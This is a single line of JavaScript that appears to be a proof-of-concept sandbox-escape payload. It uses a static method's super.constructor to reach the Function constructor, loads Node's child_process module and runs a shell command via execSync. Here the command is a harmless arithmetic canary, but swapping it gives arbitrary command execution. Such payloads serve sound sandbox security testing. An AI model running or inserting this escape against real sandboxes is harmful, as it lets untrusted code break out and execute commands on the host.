class A{ static f(){ return super.constructor('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')() } } A.f();
